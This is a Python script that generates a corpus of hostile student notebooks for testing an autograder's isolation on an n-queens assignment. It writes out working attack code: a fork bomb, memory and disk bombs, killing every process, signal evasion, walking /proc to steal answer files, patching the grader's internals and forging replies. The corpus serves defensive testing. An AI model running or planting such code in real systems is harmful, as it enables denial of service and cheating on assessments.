"""Write the hostile and broken hand-ins of tests/hostile/n-queens/.

Each notebook starts from the untouched student notebook ("stub": its real
work earns 0) or from a correct one ("solved": 5) and adds an attack.
expected.csv says what each must score: never more than its real work.
Run from the repository root:  .venv/bin/python tests/hostile/make_corpus.py [NAME ...]
"""

import copy
import json
import sys
import tomllib
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT))
from autograder.core.calls import parse_call  # noqa: E402
OUT = Path(__file__).parent / "n-queens"
STUB = nbformat.read(ROOT / "assignments" / "n-queens" / "n-queens.ipynb", as_version=4)
SOLVED = nbformat.read(ROOT / "examples" / "n-queens" / "submissions" / "alice.ipynb", as_version=4)

# The public calls, as the grader sends them: a hand-in knows them from its public checks.
PUBLIC_CALLS = sorted(json.dumps([(encoded := parse_call(case["call"]).encoded())["function"], encoded["args"]])
                      for case in tomllib.loads((ROOT / "autograder" / "assignments" / "n-queens" / "cases.toml")
                                                .read_text())["case"] if not case.get("hidden"))

ATTACKS = {
    # name: (base, code added as a new cell after the imports, replacements {cell id: source})
    "fake-score-printout": ("stub", """
import sys, json
print(json.dumps({"score": 5, "max_score": 5, "status": "graded"}))
print("Score: 5.0 / 5")
sys.stderr.write('{"ok": true, "value": true}\\n')
""", {}),
    "returns-true-everywhere": ("stub", "", {
        "get-n": "def get_n(pos):\n    return True",
        "board2str": "def board2str(pos):\n    return True",
        "is-solved": "def is_solved(pos):\n    return True",
        "count-solutions": "def count_solutions(n):\n    return True",
    }),
    # Patching the worker's own helpers can only say what a function could have returned.
    "patches-the-worker": ("stub", """
import sys
for module in list(sys.modules.values()):
    if hasattr(module, "to_plain"):
        module.to_plain = lambda value, *rest: True
""", {}),
    "forges-replies": ("stub", """
import os
for fd in range(3, 64):
    try:
        os.write(fd, b'{"id": 999, "ok": true, "value": true}\\n' * 50)
    except OSError:
        pass
""", {}),
    "walks-stack-frames": ("stub", "", {
        "is-solved": '''
import sys
def is_solved(pos):
    # Look through every module and every calling frame for an answer key.
    for module in list(sys.modules.values()):
        for value in list(vars(module).values()):
            if isinstance(value, dict) and "expected" in value:
                return value["expected"]
    frame = sys._getframe()
    while frame:
        for value in frame.f_locals.values():
            if isinstance(value, dict) and "expected" in value:
                return value["expected"]
        frame = frame.f_back
    raise LookupError("no answer key in this process")''',
    }),
    "searches-the-disk": ("stub", "", {
        "get-n": '''
import os
def get_n(pos):
    # Count the grader's secrets this process can see; an honest answer needs none.
    secrets = ("expected.json", "cases.toml", "gradebook.db", "grades.csv")
    found = []
    for top in ("/work", "/home", "/root", "/tmp", "/srv", "/mnt", "/opt", "/var"):
        for folder, subfolders, files in os.walk(top):
            # Where secrets could be, not the Python libraries.
            subfolders[:] = [s for s in subfolders if s not in (".pyenv", "lib", "site-packages")]
            found += [os.path.join(folder, f) for f in files if f in secrets]
    if found:
        return len(pos)
    raise FileNotFoundError("nothing to steal")''',
    }),
    "reaches-the-network": ("stub", "", {
        "get-n": '''
import socket
def get_n(pos):
    for address in (("1.1.1.1", 80), ("127.0.0.1", 22), ("pypi.org", 443)):
        try:
            socket.create_connection(address, timeout=1).close()
            return len(pos)
        except OSError:
            pass
    raise ConnectionError("no network")''',
    }),
    # The two that ignore interrupts loop in board2str: four cases call it.  In is_solved, which count_solutions
    # calls too, 17 cases looped, each to its limit: four times the CPU in each of the corpus's nine runs (every
    # layer and condition, tests/engine/test_isolation_layers.py), for the same proof.
    "ignores-interrupts": ("stub", """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
""", {"board2str": "def board2str(pos):\n    while True:\n        pass"}),
    "fork-bomb": ("stub", """
import os, time
children = 0
try:
    while children < 100000:
        if os.fork() == 0:
            time.sleep(120)
            os._exit(0)
        children += 1
except OSError:
    pass
""", {}),
    "memory-bomb-in-a-case": ("stub", "", {
        "get-n": "def get_n(pos):\n    hog = bytearray(64 * 1024 ** 3)\n    return len(pos)",
    }),
    # Attacks at top level that the real work survives: still 5.
    "exits-the-interpreter": ("solved", """
import os, sys
try:
    sys.exit("bye")
finally:
    os._exit(0)
""", {}),
    "kills-everything-it-can": ("solved", """
import os, signal
for target in (os.getppid(), 1, -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
""", {}),
    "memory-bomb-at-top-level": ("solved", "hog = [0] * (10 ** 10)", {}),
    "fills-the-disk": ("solved", """
with open("big.bin", "wb") as handle:
    for _ in range(2048):
        handle.write(b"x" * (1024 * 1024))
""", {}),
    "reads-stdin": ("solved", "name = input('your name? ')", {}),
    # The attack the "basic" isolation of old fell to: every process's cwd and
    # command line lead to the course folder, and so to the expected values.
    "walks-proc-to-the-answers": ("stub", """
import json, os
ANSWERS = {}
def _candidates():
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        for name in ("cwd", "root"):
            try:
                yield os.readlink(f"/proc/{pid}/{name}")
            except OSError:
                pass
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                yield from (part.decode(errors="replace") for part in handle.read().split(b"\\0") if part)
        except OSError:
            pass
def _steal():
    seen = set()
    for start in _candidates():
        folder = start if os.path.isdir(start) else os.path.dirname(start)
        while folder not in seen and folder not in ("", "/"):
            seen.add(folder)
            path = os.path.join(folder, "autograder", "assignments", "n-queens", "expected.json")
            try:
                with open(path) as handle:
                    return json.load(handle)["expected"]
            except (OSError, ValueError, KeyError):
                folder = os.path.dirname(folder)
    return {}
try:
    ANSWERS = _steal()
except Exception:
    pass
""", {
        "count-solutions": "def count_solutions(n):\n    return ANSWERS[f'count_solutions({n})']",
        "get-n": "def get_n(pos):\n    return ANSWERS[f'get_n({pos!r})']",
    }),
    # Replies the grader must not trust: each costs only the case that sent it.
    "deep-nested-reply": ("solved", "", {
        # <ORIGINAL> stands for the cell's own (correct) code.
        "board2str": '''<ORIGINAL>
import os
right_board2str = board2str
def board2str(pos):
    # A line nested far deeper than any plain value, on every pipe this process holds.
    for fd in range(3, 64):
        try:
            os.write(fd, b"[" * 200000 + b"]" * 200000 + b"\\n")
        except OSError:
            pass
    return right_board2str(pos)''',
    }),
    "wrong-typed-reply": ("solved", """
import sys
worker = sys.modules.get("worker") or sys.modules.get("autograder.engine.worker")
answer = worker.call
def call(shell, request):
    reply = answer(shell, request)
    if request["function"] == "is_solved":
        reply.update(ok="yes", seconds="fast", value=[True])
    return reply
worker.call = call
""", {}),
    "unknown-to-plain-tag": ("solved", """
import sys
plain = sys.modules.get("runtime") or sys.modules.get("autograder.runtime")
to_plain = plain.to_plain
def patched(value, *rest):
    if type(value) is str:
        return {"__board__": value, "looks": "right"}
    return to_plain(value, *rest)
plain.to_plain = patched
""", {}),
    # A broken is_solved costs its own cases and count_solutions (which calls it), not board2str.
    "is-solved-exits": ("solved", "", {
        "is-solved": "import os\ndef is_solved(pos):\n    os._exit(0)",
    }),
    "board2str-ignores-interrupts": ("solved", "", {
        "board2str": '''
import signal
def board2str(pos):
    # What `nohup` would do to it, and more: interrupts are ignored and blocked.
    # (The whole-hand-in evader, which ignores every signal, is ignores-interrupts.)
    for signum in (signal.SIGINT, signal.SIGALRM, signal.SIGTERM):
        signal.signal(signum, signal.SIG_IGN)
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGINT, signal.SIGALRM, signal.SIGTERM})
    while True:
        pass''',
    }),
    "is-solved-recurses-forever": ("solved", "", {
        # Through a C function, so the C stack overflows: the process dies (SIGSEGV).
        "is-solved": "import sys\nsys.setrecursionlimit(10 ** 9)\ndef is_solved(pos):\n"
                     "    return sorted([pos], key=is_solved)",
    }),
    # Issue 32, item 1: a public case read the hidden calls queued in its worker (through gc).  This one, correct,
    # loses a case whenever its process holds a call that is not a public one before its turn.
    "reads-the-queued-calls": ("solved", "", {
        "count-solutions": "<ORIGINAL>\n" + f"""
import gc, json
_PUBLIC = set({PUBLIC_CALLS!r})
def _ahead_of_its_turn():
    held = []
    for thing in gc.get_objects():
        if type(thing).__name__ == "_Channel":
            held += list(thing._waiting)
            held += [line for line in bytes(thing._buffer).split(b"\\n") if line.strip()]
    return [request for request in held if not isinstance(request, dict)
            or json.dumps([request.get("function"), request.get("args")]) not in _PUBLIC]
_depth = [0]
def _honest_unless_it_sees_ahead(function):
    def checked(*args):
        if _depth[0] == 0 and _ahead_of_its_turn():   # once per case, not in each inner call
            raise LookupError("a hidden call was in this process before its turn")
        _depth[0] += 1
        try:
            return function(*args)
        finally:
            _depth[0] -= 1
    return checked
get_n, board2str, is_solved, count_solutions = map(_honest_unless_it_sees_ahead,
                                                   (get_n, board2str, is_solved, count_solutions))""",
    }),
    # A cell of 60,000 blank lines: the google.colab check read it in time quadratic in them, 65 s of the
    # grader's own CPU (issue 38); the hand-in keeps its 5 points and costs the grader nothing.
    "colab-check-of-blank-lines": ("solved", "x = 0" + "\n" * 60_000 + "from google.colab import drive", {}),
}


def build(name, base, code, replacements):
    notebook = copy.deepcopy(STUB if base == "stub" else SOLVED)
    for cell in notebook.cells:
        if cell.cell_type == "code" and cell.id in replacements:
            cell.source = replacements[cell.id].strip("\n").replace("<ORIGINAL>", cell.source)
    if code.strip():
        index = next(i for i, c in enumerate(notebook.cells) if c.get("id") == "imports")
        cell = new_code_cell(code.strip("\n"))
        cell.id = "attack"
        notebook.cells.insert(index + 1, cell)
    nbformat.write(notebook, OUT / f"{name}.ipynb")


def main(names=None):
    """Write every hand-in, or only those `names` (the others stay as they were made: the student notebook
    they started from has moved on since, and their expected rows are what they are)."""
    OUT.mkdir(exist_ok=True)
    for name, (base, code, replacements) in ATTACKS.items():
        if names is None or name in names:
            build(name, base, code, replacements)
    if names is None or "colab-check-of-blank-lines" in names:     # its cell as one string: 120 KB, not 650
        path = OUT / "colab-check-of-blank-lines.ipynb"
        data = json.loads(path.read_text(encoding="utf-8"))
        for cell in data["cells"]:
            cell["source"] = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        path.write_text(json.dumps(data, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")
    if names is None or "marimo-decorator-1500-deep" in names:
        # A correct marimo notebook with one more function whose decorator is 1,500 attributes deep:
        # ast.unparse of it raised RecursionError outside the reader's guard, which ended the class run.
        cells = "\n\n".join("@app.cell\ndef _():\n" + "".join(f"    {line}" for line in c.source.splitlines(True))
                             + "\n    return\n" for c in SOLVED.cells
                             if c.cell_type == "code" and "public-check" not in c.metadata.get("tags", []))
        (OUT / "marimo-decorator-1500-deep.py").write_text(
            f"import marimo\n\napp = marimo.App()\n\n\n{cells}\n\n@{'app.' * 1500}cell\ndef _():\n    x = 1\n"
            "    return\n", encoding="utf-8")
    if names is None or "integer-of-4301-digits" in names:
        # A correct notebook with an integer of 4,301 digits in a cell's metadata: json.loads raised
        # ValueError (Python's limit on integer strings), which ended the class run (issue 38).
        text = nbformat.writes(SOLVED).replace('"metadata": {}', '"metadata": {"n": ' + "7" * 4301 + "}", 1)
        (OUT / "integer-of-4301-digits.ipynb").write_text(text, encoding="utf-8")
    if names is not None:
        return
    # Broken files.
    (OUT / "not-json.ipynb").write_text('{"cells": [', encoding="utf-8")
    (OUT / "empty.ipynb").write_text("", encoding="utf-8")
    (OUT / "latin-1.ipynb").write_bytes('{"cells": ["café"]}'.encode("latin-1"))
    (OUT / "json-but-not-a-notebook.ipynb").write_text('{"hello": "world"}', encoding="utf-8")
    (OUT / "binary-junk.ipynb").write_bytes(bytes(range(256)) * 64)
    # An old nbformat 3 notebook with correct code must not lose points.
    v3 = nbformat.v3.new_notebook(worksheets=[nbformat.v3.new_worksheet(cells=[
        nbformat.v3.new_code_cell(input=c.source) for c in SOLVED.cells
        if c.cell_type == "code" and "public-check" not in c.metadata.get("tags", [])])])
    (OUT / "nbformat-3.ipynb").write_text(nbformat.writes(v3, version=3), encoding="utf-8")
    print(json.dumps(sorted(p.name for p in [*OUT.glob("*.ipynb"), *OUT.glob("*.py")])))


if __name__ == "__main__":
    main(sys.argv[1:] or None)
